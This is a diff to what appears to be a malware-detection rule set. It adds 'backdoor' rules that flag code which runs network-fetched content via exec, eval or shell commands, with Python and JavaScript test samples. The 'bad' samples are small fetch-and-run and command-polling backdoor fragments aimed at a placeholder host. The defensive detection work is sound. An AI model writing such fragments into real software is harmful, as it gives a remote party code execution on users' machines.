@@ -333,6 +333,47 @@ RULES = (
         },
     ),
     Rule(
+        "code-from-somewhere",
+        "backdoor",
+        MALICE,
+        MEDIUM,
+        LIKELY,
+        94,
+        "Code that is made at run time is run in a file that asks an address",
+        "Whoever answers there may run code as this user.",
+        "Do not run it, unless you can tell where the code comes from.",
+        {
+            "python": (
+                "exec(0: dynamic & !~param & !<compile()>) @with-sending @with-address",
+                "eval(0: dynamic & !~param & !<compile()>) @with-sending @with-address",
+            ),
+            "javascript": (
+                "eval(0: dynamic & !~param) @with-sending @with-address",
+                "Function(*: dynamic & !~param) @with-sending @with-address",
+                "vm.runInThisContext(0: dynamic & !~param) @with-sending @with-address",
+                "vm.runInNewContext(0: dynamic & !~param) @with-sending @with-address",
+                "._compile(0: dynamic & !~param) @with-sending @with-address",
+            ),
+        },
+        bad={
+            "python": (
+                "import configparser, urllib.request\nparser = configparser.ConfigParser()\n"
+                "parser.read(urllib.request.urlretrieve('https://a.invalid/b')[0])\n"
+                "exec(parser['a']['b'])\n",
+            ),
+            "javascript": (
+                "const made = store.read('a');\nfetch('https://a.invalid').then(store.keep);\neval(made);\n",
+            ),
+        },
+        good={
+            "python": (
+                "import urllib.request\nurllib.request.urlretrieve('https://a.invalid/b', 'b')\n"
+                "exec('a = 1')\n",
+            ),
+            "javascript": ("fetch('https://a.invalid');\neval('1 + 1');\n",),
+        },
+    ),
+    Rule(
         "commands-fetched",
         "backdoor",
         MALICE,
@@ -343,6 +384,11 @@ RULES = (
         "Whoever answers there types commands as this user.",
         "Do not run it, unless what is run stands in it.",
         {
+            "python": (
+                "subprocess.*(0/args: ~param; shell: true) @with-polling @with-sending @with-address",
+                "os.system(0: ~param) @with-polling @with-sending @with-address",
+                "os.popen(0: ~param) @with-polling @with-sending @with-address",
+            ),
             "javascript": (
                 "child_process.exec(0: dynamic & !built) @with-polling @with-fixed-host",
                 "child_process.execSync(0: dynamic & !built) @with-polling @with-fixed-host",
@@ -350,6 +396,11 @@ RULES = (
             ),
         },
         bad={
+            "python": (
+                "import subprocess, time\nfrom urllib.request import urlopen\n"
+                "def work(line):\n    subprocess.run(line, shell=True)\n"
+                "while True:\n    KINDS[0](urlopen('https://a.invalid'))\n    time.sleep(9)\n",
+            ),
             "javascript": (
                 "const { exec } = require('child_process');\n"
                 "const work = (job) => exec(job.line);\n"
@@ -357,6 +408,10 @@ RULES = (
             ),
         },
         good={
+            "python": (
+                "import subprocess, time\ndef work(line):\n    subprocess.run(line, shell=True)\n"
+                "    time.sleep(9)\n",
+            ),
             "javascript": (
                 "const { exec } = require('child_process');\n"
                 "const build = (name) => exec('make ' + name);\nsetInterval(build, 9e4);\n",
